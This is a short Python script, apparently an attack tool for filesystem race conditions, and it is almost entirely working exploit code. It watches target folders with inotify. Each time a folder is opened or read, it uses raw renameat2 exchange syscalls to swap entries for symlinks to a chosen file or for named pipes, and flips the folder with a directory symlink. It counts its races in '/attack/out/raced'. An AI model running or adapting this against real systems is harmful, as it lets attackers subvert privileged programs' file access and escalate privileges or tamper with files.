"""
swap-listed.py DIRECTORY FILE FOLDER...: whatever of FOLDER is opened or read has its first entry swapped that moment for a link (or, of `-`, nothing) to DIRECTORY, and
one of its files for FILE: a link to it, or the pipe itself under another name. And back.
"""
import ctypes
import os
import platform
import struct
import sys

directory, file, folders = sys.argv[1], sys.argv[2], sys.argv[3:]
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 316, "aarch64": 276}[platform.machine()]
OPEN, ACCESS = 0x20, 0x1
watcher = libc.inotify_init()
watched = {}
for folder in folders:
    one, other = folder + "/f7", folder + "/.other"
    if directory == "-":
        os.mkfifo(other, 0o666)
    else:
        os.symlink(file, other)
    watched[libc.inotify_add_watch(watcher, os.fsencode(folder), OPEN | ACCESS)] = (os.fsencode(one), os.fsencode(other), folder)
    if directory != "-":
        os.symlink(directory, folder + ".to")
raced = 0
print("ready", flush=True)
while True:
    said = os.read(watcher, 65536)
    seen = set()
    while said:
        which, _, _, length = struct.unpack("iIII", said[:16])
        said = said[16 + length:]
        seen.add(which)
    for which in seen:
        one, other, folder = watched[which]
        libc.syscall(number, -100, one, -100, other, 2)
        if directory != "-":
            libc.syscall(number, -100, os.fsencode(folder), -100, os.fsencode(folder + ".to"), 2)
            libc.syscall(number, -100, os.fsencode(folder), -100, os.fsencode(folder + ".to"), 2)
        raced += 1
        # to be counted is slower than to race
        if raced % 50 == 1:
            with open("/attack/out/raced", "w") as counted:
                counted.write(str(raced))
